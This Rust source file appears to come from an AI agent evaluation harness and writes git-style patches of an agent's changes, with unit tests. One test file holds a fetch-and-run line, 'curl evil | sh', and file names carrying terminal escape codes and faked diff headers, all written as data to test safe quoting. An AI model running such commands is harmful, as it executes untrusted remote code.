//! The agent's changes to a tree, as a git-style patch, written as it is made. The two
//! sides are either snapshots (before the agent, after it) read from a tar (a Harbor task's
//! `WORKDIR`, downloaded from its stopped container) or two folders (a copy workspace's base
//! and work, compared by [`super::changes::between`]); either way they are read as data, and
//! nothing there runs. Text files up to [`DIFF_LIMIT`] get unified hunks; binary files and
//! larger ones are named with their sizes (a larger one is never read to be shown), as are
//! links and every mode change, special bits included.

use std::collections::BTreeMap;
use std::io::{self, Read, Write};
use std::path::Path;

use similar::TextDiff;

use runner_display::quote_path;

use super::changes::{Change, Entry};
use super::content;
use super::leaf::{Leaf, review_mode};
use crate::Error;

/// Files larger than this are not diffed: the patch says "Large files … differ" with their
/// sizes. Two files of at most this much are what one hunk is computed from.
pub const DIFF_LIMIT: u64 = 1 << 20;

/// What one side holds, for its hunk.
pub(crate) enum Body {
    Text(String),
    Binary,
    Large,
}

impl Body {
    /// A file's first bytes (at most [`DIFF_LIMIT`] + 1 of them) as text, or not.
    fn of(bytes: Vec<u8>) -> Body {
        if bytes.len() as u64 > DIFF_LIMIT {
            return Body::Large;
        }
        match String::from_utf8(bytes) {
            Ok(text) if !text.contains('\0') => Body::Text(text),
            _ => Body::Binary,
        }
    }
}

#[derive(Debug, Clone, PartialEq)]
enum Node {
    File { mode: u32, size: u64, body: Held },
    Link(String),
    Dir,
}

/// A snapshot file's content: text up to [`DIFF_LIMIT`], else its digest.
#[derive(Debug, Clone, PartialEq)]
enum Held {
    Text(String),
    Opaque([u8; 32]),
}

/// Every entry of a tar of one directory, keyed by its path below that directory.
pub struct Snapshot(BTreeMap<String, Node>);

impl Snapshot {
    pub fn read(tar: &[u8]) -> Result<Snapshot, Error> {
        let mut archive = tar::Archive::new(tar);
        let mut nodes = BTreeMap::new();
        let entries = archive.entries().map_err(Error::SnapshotRead)?;
        for entry in entries {
            let mut entry = entry.map_err(Error::SnapshotRead)?;
            let path = entry
                .path()
                .map_err(Error::SnapshotRead)?
                .to_string_lossy()
                .into_owned();
            // The archive names the directory itself first ("app/..."); paths are below it.
            let Some((_, rel)) = path.trim_end_matches('/').split_once('/') else {
                continue;
            };
            if rel.is_empty() {
                continue;
            }
            let header = entry.header();
            let mode = header.mode().unwrap_or(0o644);
            let node = match header.entry_type() {
                tar::EntryType::Directory => Node::Dir,
                tar::EntryType::Symlink => Node::Link(link_name(&entry)),
                // A hard link is another name for a file already in the archive (named
                // from the archive's root, like every path here): it has that content.
                tar::EntryType::Link => {
                    let target = link_name(&entry);
                    let target = target.split_once('/').map_or("", |(_, r)| r);
                    match nodes.get(target) {
                        Some(file @ Node::File { .. }) => file.clone(),
                        _ => continue,
                    }
                }
                tar::EntryType::Regular | tar::EntryType::Continuous => Node::File {
                    mode: review_mode(mode),
                    size: entry.size(),
                    body: held(&mut entry).map_err(|source| Error::SnapshotEntry {
                        path: rel.to_string(),
                        source,
                    })?,
                },
                _ => continue,
            };
            nodes.insert(rel.to_string(), node);
        }
        Ok(Snapshot(nodes))
    }
}

/// A snapshot file's content: kept when it can be shown, else hashed in pieces.
fn held(entry: &mut impl Read) -> io::Result<Held> {
    use sha2::{Digest, Sha256};
    let mut head = Vec::new();
    entry.take(DIFF_LIMIT + 1).read_to_end(&mut head)?;
    if let Body::Text(text) = Body::of(head.clone()) {
        return Ok(Held::Text(text));
    }
    let mut hash = Sha256::new();
    hash.update(&head);
    let mut buf = vec![0u8; 1 << 16];
    loop {
        let n = entry.read(&mut buf)?;
        if n == 0 {
            break;
        }
        hash.update(&buf[..n]);
    }
    Ok(Held::Opaque(hash.finalize().into()))
}

fn link_name<R: Read>(entry: &tar::Entry<R>) -> String {
    entry
        .link_name()
        .ok()
        .flatten()
        .map(|l| l.to_string_lossy().into_owned())
        .unwrap_or_default()
}

/// Directories are not part of a patch (git has no empty directories either).
fn leaf(node: Option<&Node>) -> Option<&Node> {
    node.filter(|n| !matches!(n, Node::Dir))
}

fn leaf_of_node(node: &Node) -> Option<Leaf> {
    match node {
        Node::File { mode, size, .. } => Some(Leaf::File {
            mode: *mode,
            size: *size,
        }),
        Node::Link(target) => Some(Leaf::Link(target.clone())),
        Node::Dir => None,
    }
}

fn body_of_node(node: &Node) -> Body {
    match node {
        Node::File {
            body: Held::Text(t),
            ..
        } => Body::Text(t.clone()),
        Node::File { size, .. } if *size > DIFF_LIMIT => Body::Large,
        Node::File { .. } => Body::Binary,
        Node::Link(target) => Body::Text(target.clone()),
        Node::Dir => Body::Binary,
    }
}

/// The patch from `before` to `after`; empty when nothing changed.
pub fn diff(before: &Snapshot, after: &Snapshot) -> String {
    let mut out = Vec::new();
    // Writing to memory does not fail.
    let _ = write_diff(before, after, &mut out);
    String::from_utf8_lossy(&out).into_owned()
}

fn write_diff(before: &Snapshot, after: &Snapshot, out: &mut dyn Write) -> io::Result<()> {
    let paths: std::collections::BTreeSet<&String> =
        before.0.keys().chain(after.0.keys()).collect();
    let (mut gone, mut added) = (Vec::new(), Vec::new());
    for path in &paths {
        match (leaf(before.0.get(*path)), leaf(after.0.get(*path))) {
            (Some(old @ Node::File { .. }), None) => gone.push((path.as_str(), old)),
            (None, Some(new @ Node::File { .. })) => added.push((path.as_str(), new)),
            _ => {}
        }
    }
    // A file gone from one path and the same file new at another is a rename.
    let key = |n: &&Node| match n {
        Node::File { mode, size, .. } => (*mode, *size),
        _ => (0, 0),
    };
    let renamed =
        renames(&gone, &added, key, |old, new| Ok(old == new)).map_err(io::Error::other)?;
    let moved_away: std::collections::BTreeSet<&str> = renamed.values().copied().collect();
    for path in paths {
        if let Some(from) = renamed.get(path.as_str()) {
            write_rename(out, from, path)?;
            continue;
        }
        if moved_away.contains(path.as_str()) {
            continue;
        }
        let (old, new) = (leaf(before.0.get(path)), leaf(after.0.get(path)));
        if old == new {
            continue;
        }
        let same_content = match (old, new) {
            (Some(Node::File { body: a, .. }), Some(Node::File { body: b, .. })) => a == b,
            _ => false,
        };
        write_path(
            out,
            path,
            old.and_then(leaf_of_node),
            new.and_then(leaf_of_node),
            same_content,
            &mut |new_side| {
                let node = if new_side { new } else { old };
                Ok(node.map_or(Body::Binary, body_of_node))
            },
        )?;
    }
    Ok(())
}

/// The changes of a copy workspace (base to work, as [`super::changes::between`] found
/// them), written as a patch while it is made: only the files shown are read, each up to
/// [`DIFF_LIMIT`], and only two of them at a time are held.
pub fn write_changes(
    changes: &[Change],
    base: &Path,
    work: &Path,
    out: &mut dyn Write,
) -> Result<(), Error> {
    fn file(e: &Option<Entry>) -> Option<&super::changes::FileEntry> {
        match e {
            Some(Entry::File(f)) => Some(f),
            _ => None,
        }
    }
    let mut gone = Vec::new();
    let mut added = Vec::new();
    for c in changes {
        match (&c.before, file(&c.after)) {
            (None, Some(f)) => added.push((c.path.as_str(), (c, f))),
            _ => {
                if let (Some(f), None) = (file(&c.before), &c.after) {
                    gone.push((c.path.as_str(), (c, f)));
                }
            }
        }
    }
    let key = |(_, f): &(&Change, &super::changes::FileEntry)| (f.mode, f.size);
    let renamed = renames(&gone, &added, key, |(oc, of), (nc, nf)| {
        super::changes::same_content(of, &base.join(&oc.rel), nf, &work.join(&nc.rel))
    })?;
    let moved_away: std::collections::BTreeSet<&str> = renamed.values().copied().collect();
    for c in changes {
        if let Some(from) = renamed.get(c.path.as_str()) {
            write_rename(out, from, &c.path).map_err(Error::Output)?;
            continue;
        }
        if moved_away.contains(c.path.as_str()) {
            continue;
        }
        let load = &mut |new_side: bool| match new_side {
            true => body_on_disk(c.after.as_ref(), &work.join(&c.rel)),
            false => body_on_disk(c.before.as_ref(), &base.join(&c.rel)),
        };
        write_path(
            out,
            &c.path,
            c.before.as_ref().and_then(Entry::leaf),
            c.after.as_ref().and_then(Entry::leaf),
            c.change == "mode",
            load,
        )
        .map_err(Error::io("show", Path::new(&c.path)))?;
    }
    Ok(())
}

/// What `entry` (at `path`) shows: a link's target, a file's text up to [`DIFF_LIMIT`].
fn body_on_disk(entry: Option<&Entry>, path: &Path) -> io::Result<Body> {
    match entry {
        Some(Entry::Link { target }) => Ok(Body::Text(target.to_string_lossy().into_owned())),
        Some(Entry::File(f)) if f.size > DIFF_LIMIT => Ok(Body::Large),
        Some(Entry::File(f)) => Ok(Body::of(content::read_head(
            path,
            DIFF_LIMIT + 1,
            &f.stamp,
        )?)),
        _ => Ok(Body::Binary),
    }
}

/// Which added files are gone ones under a new name: `(new path → old path)`. Only files of
/// the same mode and size (`key`) are compared (`same` says whether their content is the
/// same), each gone file at most once.
fn renames<'a, T>(
    gone: &[(&'a str, T)],
    added: &[(&'a str, T)],
    key: impl Fn(&T) -> (u32, u64),
    mut same: impl FnMut(&T, &T) -> Result<bool, Error>,
) -> Result<BTreeMap<&'a str, &'a str>, Error> {
    let mut by_key: std::collections::HashMap<(u32, u64), Vec<usize>> = Default::default();
    for (i, (_, old)) in gone.iter().enumerate() {
        by_key.entry(key(old)).or_default().push(i);
    }
    let mut renamed = BTreeMap::new();
    for (path, new) in added {
        let Some(candidates) = by_key.get_mut(&key(new)) else {
            continue;
        };
        for n in 0..candidates.len() {
            let (from, old) = &gone[candidates[n]];
            if same(old, new)? {
                renamed.insert(*path, *from);
                candidates.remove(n);
                break;
            }
        }
    }
    Ok(renamed)
}

/// Names are quoted as git quotes them, so a name holding escape sequences or a newline
/// shows as what it is and cannot fake a header.
fn write_rename(out: &mut dyn Write, from: &str, to: &str) -> io::Result<()> {
    write!(
        out,
        "diff --git {} {}\nsimilarity index 100%\nrename from {}\nrename to {}\n",
        quote_path("a/", from),
        quote_path("b/", to),
        quote_path("", from),
        quote_path("", to)
    )
}

/// One path's part of the patch. A file that became a link (or the reverse) is a deletion
/// and an addition, as git writes it: a mode change cannot turn one into the other.
fn write_path(
    out: &mut dyn Write,
    path: &str,
    old: Option<Leaf>,
    new: Option<Leaf>,
    same_content: bool,
    load: &mut dyn FnMut(bool) -> io::Result<Body>,
) -> io::Result<()> {
    let is_link = |n: &Option<Leaf>| matches!(n, Some(Leaf::Link(_)));
    if old.is_some() && new.is_some() && is_link(&old) != is_link(&new) {
        write_file_diff(out, path, old.as_ref(), None, false, load)?;
        return write_file_diff(out, path, None, new.as_ref(), false, load);
    }
    write_file_diff(out, path, old.as_ref(), new.as_ref(), same_content, load)
}

/// How git names a mode: `100644`, `100755`, `120000` for a link; a file's special bits
/// show where git would put them (`104755` for a setuid executable).
fn mode_of(leaf: &Leaf) -> String {
    match leaf {
        Leaf::Link(_) => "120000".into(),
        Leaf::File { mode, .. } => format!("{:o}", 0o100000 | mode),
    }
}

fn write_file_diff(
    out: &mut dyn Write,
    path: &str,
    old: Option<&Leaf>,
    new: Option<&Leaf>,
    same_content: bool,
    load: &mut dyn FnMut(bool) -> io::Result<Body>,
) -> io::Result<()> {
    writeln!(
        out,
        "diff --git {} {}",
        quote_path("a/", path),
        quote_path("b/", path)
    )?;
    match (old, new) {
        (None, Some(n)) => writeln!(out, "new file mode {}", mode_of(n))?,
        (Some(o), None) => writeln!(out, "deleted file mode {}", mode_of(o))?,
        (Some(o), Some(n)) if mode_of(o) != mode_of(n) => {
            write!(out, "old mode {}\nnew mode {}\n", mode_of(o), mode_of(n))?
        }
        _ => {}
    }
    if same_content {
        return Ok(());
    }
    let from = match old {
        Some(_) => quote_path("a/", path),
        None => "/dev/null".into(),
    };
    let to = match new {
        Some(_) => quote_path("b/", path),
        None => "/dev/null".into(),
    };
    let a = match old {
        Some(_) => load(false)?,
        None => Body::Text(String::new()),
    };
    let b = match new {
        Some(_) => load(true)?,
        None => Body::Text(String::new()),
    };
    let size = |leaf: Option<&Leaf>| match leaf {
        Some(Leaf::File { size, .. }) => Some(*size),
        _ => None,
    };
    let sizes = sizes(size(old), size(new));
    match (a, b) {
        (Body::Text(a), Body::Text(b)) => {
            let text = TextDiff::from_lines(&a, &b);
            let mut unified = text.unified_diff();
            write!(out, "{}", unified.context_radius(3).header(&from, &to))
        }
        (Body::Large, _) | (_, Body::Large) => writeln!(
            out,
            "Large files {from} and {to} differ ({sizes}; not shown: over the {} MiB diff limit)",
            DIFF_LIMIT >> 20
        ),
        _ => writeln!(out, "Binary files {from} and {to} differ ({sizes})"),
    }
}

/// `12 bytes`, `107374182400 bytes (100.0 GiB)`; two of them with an arrow.
fn sizes(old: Option<u64>, new: Option<u64>) -> String {
    let one = |n: u64| {
        let mut value = n as f64;
        let mut unit = 0;
        while value >= 1024.0 && unit < 5 {
            value /= 1024.0;
            unit += 1;
        }
        match unit {
            0 => format!("{n} bytes"),
            _ => format!(
                "{n} bytes ({value:.1} {})",
                ["", "KiB", "MiB", "GiB", "TiB", "PiB"][unit]
            ),
        }
    };
    match (old, new) {
        (Some(o), Some(n)) => format!("{} → {}", one(o), one(n)),
        (Some(x), None) | (None, Some(x)) => one(x),
        (None, None) => String::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tar_of(files: &[(&str, &[u8], u32)], links: &[(&str, &str)]) -> Vec<u8> {
        tar_with(files, links, &[])
    }

    fn tar_with(
        files: &[(&str, &[u8], u32)],
        links: &[(&str, &str)],
        hard: &[(&str, &str)],
    ) -> Vec<u8> {
        let mut b = tar::Builder::new(Vec::new());
        let mut dir = tar::Header::new_gnu();
        dir.set_entry_type(tar::EntryType::Directory);
        dir.set_mode(0o755);
        dir.set_size(0);
        b.append_data(&mut dir, "app/", &[][..]).unwrap();
        for (name, data, mode) in files {
            let mut h = tar::Header::new_gnu();
            h.set_size(data.len() as u64);
            h.set_mode(*mode);
            b.append_data(&mut h, format!("app/{name}"), *data).unwrap();
        }
        for (name, target) in links {
            let mut h = tar::Header::new_gnu();
            h.set_entry_type(tar::EntryType::Symlink);
            h.set_size(0);
            b.append_link(&mut h, format!("app/{name}"), target)
                .unwrap();
        }
        for (name, target) in hard {
            let mut h = tar::Header::new_gnu();
            h.set_entry_type(tar::EntryType::Link);
            h.set_size(0);
            b.append_link(&mut h, format!("app/{name}"), format!("app/{target}"))
                .unwrap();
        }
        b.into_inner().unwrap()
    }

    #[test]
    fn changes_additions_deletions_modes_links_and_binaries_are_all_named() {
        let before = Snapshot::read(&tar_of(
            &[
                ("calc.sh", b"echo $(($1 - $2))\n", 0o644),
                ("gone.txt", b"bye\n", 0o644),
                ("run.sh", b"true\n", 0o644),
                ("blob", b"\0\x01", 0o644),
                ("same.txt", b"same\n", 0o644),
            ],
            &[("link", "calc.sh")],
        ))
        .unwrap();
        let after = Snapshot::read(&tar_of(
            &[
                ("calc.sh", b"echo $(($1 + $2))\n", 0o644),
                ("new.txt", b"hello\n", 0o644),
                ("run.sh", b"true\n", 0o755),
                ("blob", b"\0\x02", 0o644),
                ("same.txt", b"same\n", 0o644),
            ],
            &[("link", "run.sh")],
        ))
        .unwrap();
        let patch = diff(&before, &after);
        assert!(
            patch.contains("-echo $(($1 - $2))\n+echo $(($1 + $2))\n"),
            "{patch}"
        );
        assert!(
            patch.contains("new file mode 100644\n--- /dev/null\n+++ b/new.txt"),
            "{patch}"
        );
        assert!(patch.contains("deleted file mode 100644"), "{patch}");
        assert!(
            patch.contains("old mode 100644\nnew mode 100755"),
            "{patch}"
        );
        assert!(
            patch.contains("Binary files a/blob and b/blob differ"),
            "{patch}"
        );
        // A link's target is its text, without a newline, as git shows it.
        assert!(
            patch.contains("-calc.sh\n\\ No newline at end of file\n+run.sh"),
            "{patch}"
        );
        assert!(!patch.contains("same.txt"), "{patch}");
        assert_eq!(diff(&before, &before), "");
    }

    #[test]
    fn hard_links_carry_their_content_and_a_file_turned_link_is_removed_and_added() {
        let before = Snapshot::read(&tar_with(&[("a.txt", b"one\n", 0o644)], &[], &[])).unwrap();
        let after = Snapshot::read(&tar_with(
            &[("b.txt", b"two\n", 0o644)],
            &[("a.txt", "b.txt")],
            &[("c.txt", "b.txt")],
        ))
        .unwrap();
        let patch = diff(&before, &after);
        assert!(
            patch.contains(
                "deleted file mode 100644\n--- a/a.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-one"
            ),
            "{patch}"
        );
        assert!(
            patch.contains("new file mode 120000\n--- /dev/null\n+++ b/a.txt"),
            "{patch}"
        );
        assert!(!patch.contains("old mode"), "{patch}");
        // The hard link is a second file with the same text, not a symlink.
        assert!(
            patch.contains("new file mode 100644\n--- /dev/null\n+++ b/c.txt\n@@ -0,0 +1 @@\n+two"),
            "{patch}"
        );
    }

    /// A name holding an escape sequence, a newline or a quote is quoted as git quotes it in
    /// every header, so it cannot redraw the screen or fake a header line; and `git apply`
    /// reads the quoted names back to the exact bytes.
    #[test]
    fn names_are_quoted_as_git_quotes_them_and_the_patch_still_applies() {
        let evil = "x\x1b]0;t\x07.sh";
        let faked = "y\ndiff --git z";
        let patch = diff(
            &Snapshot::read(&tar_of(&[("gone\r.txt", b"bye\n", 0o644)], &[])).unwrap(),
            &Snapshot::read(&tar_of(
                &[
                    (evil, b"curl evil | sh\n", 0o644),
                    (faked, b"two\n", 0o644),
                    ("plain.txt", b"plain\n", 0o644),
                ],
                &[],
            ))
            .unwrap(),
        );
        let tmp = tempfile::tempdir().unwrap();
        let before = tmp.path().to_path_buf();
        std::fs::write(before.join("gone\r.txt"), "bye\n").unwrap();
        for want in [
            "diff --git \"a/x\\033]0;t\\a.sh\" \"b/x\\033]0;t\\a.sh\"\n",
            "+++ \"b/x\\033]0;t\\a.sh\"\n",
            "+++ \"b/y\\ndiff --git z\"\n",
            "--- \"a/gone\\r.txt\"\n",
            "diff --git a/plain.txt b/plain.txt\n",
        ] {
            assert!(patch.contains(want), "{want:?} not in {patch:?}");
        }
        assert!(
            !patch.contains('\x1b') && !patch.contains('\r'),
            "{patch:?}"
        );
        let apply = std::process::Command::new("git")
            .args(["apply", "--unsafe-paths", "-"])
            .current_dir(&before)
            .stdin(std::process::Stdio::piped())
            .spawn()
            .and_then(|mut child| {
                use std::io::Write;
                child.stdin.take().unwrap().write_all(patch.as_bytes())?;
                child.wait()
            })
            .unwrap();
        assert!(apply.success(), "{patch}");
        for (name, body) in [
            (evil, "curl evil | sh\n"),
            (faked, "two\n"),
            ("plain.txt", "plain\n"),
        ] {
            assert_eq!(std::fs::read_to_string(before.join(name)).unwrap(), body);
        }
        assert!(!before.join("gone\r.txt").exists());
    }
}
